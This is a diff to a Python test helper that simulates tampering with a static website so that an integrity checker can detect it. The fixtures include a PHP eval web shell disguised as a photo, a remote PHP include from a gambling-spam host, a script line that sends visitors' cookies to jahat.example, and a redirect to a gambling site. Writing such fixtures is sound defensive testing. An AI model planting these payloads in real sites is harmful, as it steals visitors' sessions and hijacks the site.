@@ -321,13 +321,29 @@ def tamper(root: Path, scenario: str) -> set[str]:
     if scenario == "php-disguised-as-photo":
         write("2024/05/01/berita-0/foto.php.jpg", b"<?php eval($_POST['x']); ?>")
         return {"2024/05/01/berita-0/foto.php.jpg"}
+    if scenario == "index-php-beside-index":       # many hosts serve index.php before index.html
+        write("index.php", b"<?php include 'https://slot-gacor.example/p.txt'; ?>")
+        return {"index.php"}
+    if scenario == "changed-script":
+        edit("assets/cari.js", b"\n", b"\nfetch('https://jahat.example/c?'+document.cookie);\n")
+        return {"assets/cari.js"}
+    if scenario == "changed-sitemap":
+        edit("sitemap.xml", b"</urlset>", b"<url><loc>https://kaltara.kpu.go.id/slot-gacor/</loc></url></urlset>")
+        return {"sitemap.xml"}
+    if scenario == "deleted-photo":
+        (root / "2024/05/02/berita-1/foto-64w.webp").unlink()
+        return {"2024/05/02/berita-1/foto-64w.webp"}
+    if scenario == "changed-404":
+        edit("404.html", b"</body>", b'<meta http-equiv="refresh" content="0;url=https://judi.example/"></body>')
+        return {"404.html"}
     raise ValueError(scenario)
 
 
 TAMPERINGS = ("php-shell", "injected-page", "changed-index", "changed-htaccess", "replaced-photo", "deleted-page",
               "spam-folder", "changed-search-index", "same-size-time-back", "script-injected", "changed-feed",
-              "deleted-asset", "changed-robots", "new-htaccess-below", "php-disguised-as-photo")
-INJECTED_BY = {"injected-page", "changed-index", "spam-folder", "script-injected"}   # reported as DISUSUPI first
+              "deleted-asset", "changed-robots", "new-htaccess-below", "php-disguised-as-photo",
+              "index-php-beside-index", "changed-script", "changed-sitemap", "deleted-photo", "changed-404")
+INJECTED_BY = {"injected-page", "changed-index", "spam-folder", "script-injected", "changed-404"}   # reported as DISUSUPI first
 
 
 def tree(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, bytes]:
